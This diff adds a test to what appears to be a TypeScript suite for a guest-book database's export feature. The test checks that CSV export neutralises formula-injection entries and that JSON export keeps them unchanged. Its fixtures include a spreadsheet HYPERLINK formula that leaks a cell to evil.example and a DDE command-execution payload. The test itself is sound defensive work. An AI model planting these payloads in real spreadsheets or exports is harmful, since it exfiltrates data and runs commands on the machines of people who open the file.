@@ -65,6 +65,53 @@ describe("export", () => {
     expect(keyed[0]?.k.bytes).toBe(40);
     expect(keyed[0]?.k.blob).toHaveLength(80);
   });
+
+  it("neutralises visitors' formulas in CSV (OWASP's CSV injection); JSON keeps them exact", async () => {
+    // A guest book: visitors sign it with whatever they like, the owner downloads the entries.
+    const p = await createProject();
+    await deploy(
+      p,
+      appWith(`    this.ctx.storage.sql.exec("CREATE TABLE IF NOT EXISTS entries (id INTEGER PRIMARY KEY, name TEXT, stars INTEGER)");
+    if (request.method === "POST") {
+      const { name, stars } = await request.json<{ name: string; stars: number }>();
+      this.ctx.storage.sql.exec("INSERT INTO entries (name, stars) VALUES (?, ?)", name, stars);
+    }
+    return new Response("thanks");`),
+    );
+    const entries = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1+1)",
+      "\t=1",
+      "\r=1",
+      "Ada",
+    ];
+    for (const [i, name] of entries.entries()) {
+      const signed = await app(p, "/sign", { method: "POST", body: JSON.stringify({ name, stars: i === 0 ? -2 : i }) });
+      expect(signed.status).toBe(200);
+    }
+    const csv = await (await call(`${table(p, "entries")}/export/csv`, { token: p.token })).text();
+    expect(csv).toBe(
+      [
+        "id,name,stars",
+        `1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-2`,
+        `2,"'+cmd|' /C calc'!A0",1`,
+        `3,"'-2+3",2`,
+        `4,"'@SUM(1+1)",3`,
+        `5,"'\t=1",4`,
+        `6,"'\r=1",5`,
+        "7,Ada,6",
+        "",
+      ].join("\r\n"),
+    );
+    const json = (await (await call(`${table(p, "entries")}/export/json`, { token: p.token })).json()) as {
+      name: string;
+      stars: number;
+    }[];
+    expect(json.map((e) => e.name)).toEqual(entries);
+    expect(json[0]?.stars).toBe(-2);
+  });
 });
 
 describe("live", () => {
